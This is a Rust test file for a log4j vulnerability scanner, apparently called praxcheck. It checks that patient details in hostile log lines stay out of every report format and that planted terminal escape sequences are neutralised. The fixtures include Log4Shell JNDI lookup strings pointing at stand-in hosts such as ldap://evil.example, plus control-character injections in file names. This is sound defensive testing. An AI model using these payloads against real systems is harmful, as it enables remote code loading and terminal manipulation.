//! Hostile log lines as a user's scan meets them (issue 11): patient text around an
//! unclosed lookup reaches no output format.

use std::process::Command;

const PATIENT: &str = "Patient: Erika Mustermann, Diagnose F32.1, Versichertennummer A123456789";
const SECRETS: &[&str] = &[
    "Erika",
    "Mustermann",
    "F32.1",
    "Versichertennummer",
    "A123456789",
];

#[test]
fn patient_text_after_an_unclosed_lookup_reaches_no_output_format() {
    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path().join("logs");
    std::fs::create_dir_all(&logs).unwrap();
    std::fs::write(
        logs.join("app.log"),
        format!(
            "2021-12-11 10:00:00,000 INFO {PATIENT} ${{jndi:ldap://evil.example/a {PATIENT}\n\
             2021-12-11 10:00:01,000 INFO q=%24%7Bjndi:ldap://evil.example/b {PATIENT}\n\
             2021-12-11 10:00:02,000 ERROR Error looking up JNDI resource [ldap://evil.example/c {PATIENT}\n\
             \tat org.apache.logging.log4j.core.lookup.JndiLookup.lookup(JndiLookup.java:56)\n"
        ),
    )
    .unwrap();
    let p = logs.to_str().unwrap();
    for format in ["text", "json", "csv", "overview", "html", "sbom", "sarif"] {
        for cmd in ["logs", "scan"] {
            let mut c = Command::new(env!("CARGO_BIN_EXE_praxcheck"));
            c.env_remove("LANG").env("NO_COLOR", "1");
            c.args([cmd, "--path", p, "--format", format, "--all"]);
            if cmd == "scan" {
                c.arg("--no-processes");
            }
            let o = c.output().unwrap();
            let all = format!(
                "{}{}",
                String::from_utf8_lossy(&o.stdout),
                String::from_utf8_lossy(&o.stderr)
            );
            assert!(!o.stdout.is_empty(), "{cmd} {format}: {all}");
            for s in SECRETS {
                assert!(!all.contains(s), "{cmd} {format} leaked {s}: {all}");
            }
        }
    }
}

#[test]
fn an_unsupported_language_or_a_garbage_date_is_refused() {
    let run = |lang: Option<&str>, today: Option<&str>| {
        let mut c = Command::new(env!("CARGO_BIN_EXE_praxcheck"));
        c.env_remove("LANG").env_remove("PRAXCHECK_TODAY");
        if let Some(l) = lang {
            c.args(["--lang", l]);
        }
        if let Some(t) = today {
            c.env("PRAXCHECK_TODAY", t);
        }
        c.args(["advisories", "show"]).output().unwrap()
    };
    let o = run(Some("xx"), None);
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("xx"));
    for bad in ["garbage", "1900-01-01", "2024-13-01", "\u{1b}[2J"] {
        let o = run(None, Some(bad));
        assert_eq!(o.status.code(), Some(2), "{bad}");
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(
            err.contains("PRAXCHECK_TODAY") && !err.contains('\u{1b}'),
            "{err}"
        );
    }
    // Good values still work.
    assert_eq!(run(Some("en"), Some("2026-01-15")).status.code(), Some(0));
}

/// Planted terminal controls: clear screen, an OSC window title, a carriage return and a
/// bidi override.
const CONTROLS: &[&str] = &["\u{1b}[2J", "\u{1b}]0;pwned\u{7}", "\r", "\u{202e}"];

/// Whether printed text holds a character a terminal would act on (newlines aside).
fn hidden_char(s: &str) -> Option<char> {
    s.chars().find(|c| {
        (c.is_control() && *c != '\n')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    })
}

#[test]
fn nothing_from_an_attacker_reaches_the_terminal_as_control_characters() {
    use praxcheck_testsupport::jar::JarBuilder;
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("praxis");
    std::fs::create_dir_all(&root).unwrap();
    for (i, ctl) in CONTROLS.iter().enumerate() {
        // A log named with the control, and lines carrying it in payload and callback host.
        std::fs::write(
            root.join(format!("app{i}{ctl}.log")),
            format!(
                "2021-12-11 10:00:0{i},000 INFO ${{jndi:ldap://evil{ctl}.example:1389/a{ctl}b}}\n\
                 2021-12-11 10:00:0{i},000 INFO ${{jndi:dns://x{ctl}y.example/{ctl}}} from 10.0.0.{i}\n"
            ),
        )
        .unwrap();
        // An archive entry named with the control, holding a vulnerable log4j-core.
        let inner = JarBuilder::new()
            .pom("org.apache.logging.log4j", "log4j-core", "2.14.1")
            .finish();
        let outer = JarBuilder::new()
            .add(&format!("lib/inner{ctl}.jar"), &inner)
            .finish();
        std::fs::write(root.join(format!("app{i}{ctl}.jar")), outer).unwrap();
        // A broken archive: its name is shown among the unreadable files.
        std::fs::write(
            root.join(format!("broken{i}{ctl}.jar")),
            b"PK\x03\x04broken",
        )
        .unwrap();
    }
    let p = root.to_str().unwrap();
    let json = dir.path().join("doc.json");
    for format in ["text", "overview"] {
        for cmd in ["logs", "scan"] {
            let mut c = Command::new(env!("CARGO_BIN_EXE_praxcheck"));
            c.env_remove("LANG").env("NO_COLOR", "1");
            c.args([cmd, "--path", p, "--format", format, "--all"]);
            if cmd == "scan" {
                c.arg("--no-processes");
            }
            let o = c.output().unwrap();
            let out = String::from_utf8_lossy(&o.stdout);
            let err = String::from_utf8_lossy(&o.stderr);
            assert!(!out.is_empty(), "{cmd} {format}: {err}");
            assert_eq!(hidden_char(&out), None, "{cmd} {format}: {out:?}");
            assert_eq!(hidden_char(&err), None, "{cmd} {format}: {err:?}");
            if cmd == "scan" && format == "text" {
                // The escapes are shown where the controls were.
                assert!(out.contains("\\x1b[2J"), "{out}");
                assert!(out.contains("\\x1b]0;pwned\\x07"), "{out}");
                assert!(out.contains("\\r"), "{out}");
            }
        }
    }
    // The machine formats printed to the terminal (no --output): JSON's own escaping covers
    // C0; the bidi override and C1 controls are written as \u escapes, the value unchanged.
    for format in ["json", "sarif", "sbom"] {
        let o = Command::new(env!("CARGO_BIN_EXE_praxcheck"))
            .args(["scan", "--path", p, "--no-processes", "--no-save", "-q"])
            .args(["--fail-on", "none", "--format", format])
            .output()
            .unwrap();
        let out = String::from_utf8_lossy(&o.stdout);
        assert!(
            !out.is_empty(),
            "{format}: {}",
            String::from_utf8_lossy(&o.stderr)
        );
        assert_eq!(hidden_char(&out), None, "{format}: {out:?}");
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
        if format == "json" {
            assert!(
                v.to_string().contains('\u{202e}'),
                "the value keeps the character"
            );
        }
    }
    // Hostnames and other strings read from a stored document.
    let o = Command::new(env!("CARGO_BIN_EXE_praxcheck"))
        .args([
            "scan",
            "--path",
            p,
            "--no-processes",
            "--format",
            "json",
            "-q",
        ])
        .arg("--output")
        .arg(&json)
        .output()
        .unwrap();
    assert!(json.exists(), "{}", String::from_utf8_lossy(&o.stderr));
    let mut doc: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&json).unwrap()).unwrap();
    doc["scan"]["hostname"] = serde_json::json!(format!("pc{}", CONTROLS.concat()));
    std::fs::write(&json, serde_json::to_vec(&doc).unwrap()).unwrap();
    for format in ["text", "overview"] {
        let o = Command::new(env!("CARGO_BIN_EXE_praxcheck"))
            .env_remove("LANG")
            .env("NO_COLOR", "1")
            .args(["report", "--format", format, "--all", "--from"])
            .arg(&json)
            .output()
            .unwrap();
        let out = String::from_utf8_lossy(&o.stdout);
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(out.contains("pc\\x1b[2J"), "{format}: {out}{err}");
        assert_eq!(hidden_char(&out), None, "report {format}: {out:?}");
        assert_eq!(hidden_char(&err), None, "report {format}: {err:?}");
    }
}

#[test]
fn an_incomplete_scan_says_so_and_does_not_exit_0() {
    use praxcheck_testsupport::jar::{JarBuilder, class_file};
    let dir = tempfile::tempdir().unwrap();
    // Three levels of nesting, nothing vulnerable in them.
    let inner2 = JarBuilder::new()
        .add("a/B.class", &class_file("a/B", &[]))
        .finish();
    let inner = JarBuilder::new().add("lib/inner2.jar", &inner2).finish();
    let outer = JarBuilder::new().add("lib/inner.jar", &inner).finish();
    std::fs::write(dir.path().join("app.jar"), outer).unwrap();
    let p = dir.path().to_str().unwrap();
    let run = |format: &str, depth: &str| {
        Command::new(env!("CARGO_BIN_EXE_praxcheck"))
            .env_remove("LANG")
            .env("NO_COLOR", "1")
            .args(["--lang", "en", "scan", "--path", p, "--no-processes"])
            .args(["--max-depth", depth, "--format", format])
            .output()
            .unwrap()
    };
    // Within the limit: complete and clean.
    for format in ["text", "overview"] {
        let o = run(format, "16");
        let out = String::from_utf8_lossy(&o.stdout);
        assert_eq!(o.status.code(), Some(0), "{format}: {out}");
        assert!(!out.contains("ncomplete"), "{format}: {out}");
    }
    // Beyond it: the text and the overview say so and the exit code is 1.
    for format in ["text", "overview"] {
        let o = run(format, "1");
        let out = String::from_utf8_lossy(&o.stdout);
        assert_eq!(o.status.code(), Some(1), "{format}: {out}");
        assert!(out.contains("ncomplete"), "{format}: {out}");
    }
}

#[test]
fn a_scan_that_reads_nothing_says_only_that() {
    let dir = tempfile::tempdir().unwrap();
    let missing = dir.path().join("does-not-exist");
    for format in ["overview", "text"] {
        let o = Command::new(env!("CARGO_BIN_EXE_praxcheck"))
            .env_remove("LANG")
            .env("NO_COLOR", "1")
            .args([
                "--lang",
                "en",
                "scan",
                "--no-processes",
                "--format",
                format,
                "--path",
            ])
            .arg(&missing)
            .output()
            .unwrap();
        let out = String::from_utf8_lossy(&o.stdout);
        let err = String::from_utf8_lossy(&o.stderr);
        assert_eq!(o.status.code(), Some(2), "{format}: {out}{err}");
        assert!(
            !out.contains('✔') && !err.contains('✔'),
            "{format}: {out}{err}"
        );
        assert!(!out.contains("open"), "{format}: {out}");
        assert!(err.contains("could be read"), "{format}: {err}");
        assert!(err.contains("does-not-exist"), "{format}: {err}");
    }
}

#[test]
fn a_path_in_an_error_message_is_shown_not_sent() {
    let dir = tempfile::tempdir().unwrap();
    let bad = dir.path().join("x\x1b[2J\x1b]0;pwned\x07.json");
    let bad = bad.to_str().unwrap();
    for args in [
        vec!["report", "--from", bad],
        vec!["scan", "--no-processes", "--path", bad],
        vec!["logs", "--path", bad],
    ] {
        let o = Command::new(env!("CARGO_BIN_EXE_praxcheck"))
            .env_remove("LANG")
            .env("NO_COLOR", "1")
            .args(&args)
            .output()
            .unwrap();
        let out = String::from_utf8_lossy(&o.stdout);
        let err = String::from_utf8_lossy(&o.stderr);
        assert_ne!(o.status.code(), Some(0), "{args:?}");
        assert_eq!(hidden_char(&out), None, "{args:?}: {out:?}");
        assert_eq!(hidden_char(&err), None, "{args:?}: {err:?}");
        // `logs` says only that no path could be read; the others name the path.
        assert!(
            args[0] == "logs" || format!("{out}{err}").contains("x\\x1b[2J"),
            "{args:?}: {out}{err}"
        );
    }
}

#[cfg(unix)]
#[test]
fn a_fifo_as_a_stored_document_or_facts_file_is_refused_and_named_once() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("pipe.json");
    if !praxcheck_testsupport::mkfifo(
        &fifo,
        "a_fifo_as_a_stored_document_or_facts_file_is_refused_and_named_once",
    ) {
        return;
    }
    // A real document to give next to the FIFO facts file.
    std::fs::create_dir_all(dir.path().join("empty")).unwrap();
    let doc = dir.path().join("doc.json");
    let o = Command::new(env!("CARGO_BIN_EXE_praxcheck"))
        .args([
            "--quiet",
            "scan",
            "--no-processes",
            "--no-logs",
            "--no-save",
            "--path",
        ])
        .arg(dir.path().join("empty"))
        .args(["--format", "json", "--fail-on", "none", "--output"])
        .arg(&doc)
        .output()
        .unwrap();
    assert!(doc.is_file(), "{}", String::from_utf8_lossy(&o.stderr));
    let f = fifo.to_str().unwrap();
    let d = doc.to_str().unwrap();
    for (args, de) in [
        (
            vec!["report", "--from", f],
            "Dokument kann nicht gelesen werden",
        ),
        (vec!["report", "--from", d, "--facts", f], "pipe.json"),
    ] {
        let (tx, rx) = std::sync::mpsc::channel();
        let a: Vec<String> = args.iter().map(|s| (*s).to_owned()).collect();
        std::thread::spawn(move || {
            let o = Command::new(env!("CARGO_BIN_EXE_praxcheck"))
                .env_remove("LANG")
                .env("NO_COLOR", "1")
                .args(&a)
                .output();
            let _ = tx.send(o);
        });
        let o = rx
            .recv_timeout(std::time::Duration::from_secs(60))
            .expect("a FIFO must not hang the report")
            .unwrap();
        let err = String::from_utf8_lossy(&o.stderr);
        assert_eq!(o.status.code(), Some(2), "{args:?}: {err}");
        assert_eq!(err.matches("pipe.json").count(), 1, "{args:?}: {err}");
        assert!(err.contains(de), "{args:?}: {err}");
    }
}
